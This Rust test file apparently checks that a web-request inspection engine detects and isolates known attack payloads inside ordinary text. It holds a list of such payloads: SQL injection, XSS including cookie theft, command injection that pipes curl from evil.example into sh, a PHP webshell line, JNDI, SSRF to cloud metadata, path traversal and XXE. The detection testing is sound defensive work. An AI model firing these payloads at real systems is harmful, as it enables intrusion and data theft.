//! Payloads: each finding shows the whole part of a value that attacks, and nothing else. 200 values
//! that hold a known attack between ordinary words and numbers.

use engine::{Engine, mutate::empty_request};
use shared::{AttackType, Finding, InspectRequest};

/// Attacks, each with its type and the texts around it.
struct Cases {
    surroundings: &'static [(&'static str, &'static str)],
    attacks: &'static [(AttackType, &'static str)],
}

const CASES: &[Cases] = &[
    Cases {
        surroundings: &[("", ""), ("tea", ""), ("green tea", ""), ("O", ""), ("7", "")],
        attacks: &[
            (AttackType::Sqli, "' or 7=7 --"),
            (AttackType::Sqli, "' union select name,pass from users --"),
            (AttackType::Sqli, "'; drop table tea; --"),
            (AttackType::Sqli, "' and sleep(9)#"),
            (AttackType::Sqli, "\" or \"a\"=\"a"),
            (AttackType::Sqli, "') or ('a'='a"),
            (AttackType::Sqli, "' and extractvalue(1,concat(0x7e,version())) --"),
        ],
    },
    Cases {
        surroundings: &[("7 ", ""), ("42 ", ""), ("1001 ", ""), ("-1 ", ""), ("0 ", "")],
        attacks: &[
            (AttackType::Sqli, "or 7=7"),
            (AttackType::Sqli, "union all select 1,2,3"),
            (AttackType::Sqli, "and 7=(select count(*) from users)"),
            (AttackType::Sqli, ";waitfor delay '0:0:9'--"),
            (AttackType::Sqli, "order by 9--"),
            (AttackType::Sqli, "-sleep(9)"),
        ],
    },
    Cases {
        surroundings: &[("", ""), ("tea", ""), ("tea ", ""), ("tea ", " pot"), ("a green tea pot ", "")],
        attacks: &[
            (AttackType::Xss, "<script>alert(7)</script>"),
            (AttackType::Xss, "<img src=x onerror=alert(7)>"),
            (AttackType::Xss, "<svg/onload=alert(7)>"),
            (AttackType::Xss, "\" onmouseover=\"alert(7)"),
            (AttackType::Xss, "<iframe src=javascript:alert(7)>"),
            (AttackType::Xss, "'><script src=//evil.example/x.js></script>"),
            (AttackType::Xss, "';alert(document.cookie)//"),
            (AttackType::Rce, "$(id)"),
            (AttackType::Rce, "<?php system($_GET[1]); ?>"),
            (AttackType::Rce, "${jndi:ldap://evil.example/a}"),
            (AttackType::Ssti, "{{7*7}}"),
            (AttackType::Ssti, "${7*7}"),
            (AttackType::Ssti, "{{config.__class__.__init__.__globals__}}"),
            (AttackType::Ssti, "<%= 7*7 %>"),
            (AttackType::Ssi, "<!--#exec cmd=\"id\"-->"),
            (AttackType::Xss, "<body onload=alert(7)>"),
            (AttackType::Ssti, "#{7*7}"),
            (AttackType::Rce, "<?=`id`?>"),
        ],
    },
    Cases {
        surroundings: &[("", ""), ("tea", ""), ("tea ", ""), ("a green tea pot ", "")],
        attacks: &[
            (AttackType::Rce, "; cat /etc/hosts"),
            (AttackType::Rce, "&& curl http://evil.example/x | sh"),
            (AttackType::Rce, "; wget http://evil.example/x -O /tmp/x"),
        ],
    },
    Cases {
        surroundings: &[("", ""), (" ", ""), ("", " "), ("?file=", "")],
        attacks: &[
            (AttackType::PathTraversal, "../../../../etc/passwd"),
            (AttackType::PathTraversal, "..\\..\\..\\windows\\win.ini"),
            (AttackType::PathTraversal, "/etc/passwd"),
            (AttackType::PathTraversal, "img/../../../../etc/shadow"),
        ],
    },
    Cases {
        surroundings: &[("", ""), (" ", ""), ("", " ")],
        attacks: &[
            (AttackType::PathTraversal, "php://filter/convert.base64-encode/resource=index.php"),
            (AttackType::Ssrf, "http://169.254.169.254/latest/meta-data/"),
            (AttackType::Ssrf, "http://localhost:9200/_cat"),
            (AttackType::Ssrf, "gopher://127.0.0.1:6379/_INFO"),
            (AttackType::Ldapi, "*)(uid=*))(|(uid=*"),
            (AttackType::Xxe, "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>"),
        ],
    },
];

#[test]
fn payloads_are_whole_attacks_and_have_the_right_type_first() {
    let engine = Engine::new();
    let (mut count, mut wrong) = (0, Vec::new());
    for Cases { surroundings, attacks } in CASES {
        for (attack_type, attack) in *attacks {
            for (before, after) in *surroundings {
                count += 1;
                let value = [*before, attack, *after].concat();
                let findings = engine.inspect(&request(&value)).findings;
                if !findings.first().is_some_and(|it| it.attack_type == *attack_type && it.payload == *attack)
                {
                    wrong.push(format!("{value:?}: {:?}", findings.iter().map(summary).collect::<Vec<_>>()));
                }
            }
        }
    }
    assert!(count >= 200, "{count}");
    assert!(wrong.is_empty(), "{} of {count}:\n{}", wrong.len(), wrong.join("\n"));
}

fn request(value: &str) -> InspectRequest {
    let encoded = value.bytes().fold(String::new(), |encoded, byte| encoded + &format!("%{byte:02x}"));
    InspectRequest { query: format!("item={encoded}"), ..empty_request("GET") }
}

fn summary(finding: &Finding) -> String {
    format!("{} {:?}", finding.signature, finding.payload)
}
